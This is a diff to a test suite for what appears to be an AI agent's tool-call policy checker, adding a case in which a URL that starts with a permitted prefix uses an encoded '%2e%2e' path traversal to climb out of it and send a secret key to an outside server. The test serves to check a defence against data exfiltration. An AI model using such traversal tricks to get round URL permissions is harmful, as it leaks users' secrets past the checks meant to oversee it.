@@ -13,6 +13,7 @@ vi.mock('../../main/host/policy/labels.ts', async (original) => (await import('.
 vi.mock('../../main/host/policy/leaveOut.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/openableUrl.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/shownUrl.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
+vi.mock('../../main/host/policy/paths.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/patterns.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 
 const { inspectCall } = await vi.importActual<typeof inspectModule>('../../main/host/policy/inspectCall.ts');
@@ -110,6 +111,29 @@ const byDisguise: Attack = {
     expect(card?.arguments.text).toContain(secret);
     expect(card?.destinations).toEqual(['/url']);
     expect(card?.reason.code).toBe('choosesDestination');
+  },
+};
+
+const byClimbing: Attack = {
+  name: 'an address that begins like those that may be opened, and climbs out of them',
+  guard: 'a permission for what begins so holds for nothing that climbs',
+  off: { climbs: () => false },
+  async run(kind) {
+    const stage = await setPages();
+    const mine = `${stage.stranger.url}/mine/`;
+    await mayOpen(stage, { kind: 'prefix', value: mine });
+    const url = kind === 'attack' ? `${mine}%2e%2e/theirs?key=${secret}` : `${mine}news`;
+    const told = await stage.obey(
+      { first: [opens(url)], order: '-', carriesOut: [] },
+      { card: () => no },
+      { text: `My key is ${secret}.` },
+    );
+    return { left: stage.stranger.heard().includes(`/theirs?key=${secret}`), done: stage.stranger.heard().includes('/mine/news'), told };
+  },
+  onCard({ cards }) {
+    const card = cards.find(({ tool }) => tool === 'open_page');
+    expect(card?.arguments.text).toContain(secret);
+    expect(card?.destinations).toEqual(['/url']);
   },
 };
 
@@ -283,6 +307,7 @@ describeAttacks([
   byAddress,
   byHostName,
   byDisguise,
+  byClimbing,
   inBase64,
   fromDescription,
   inHalves,
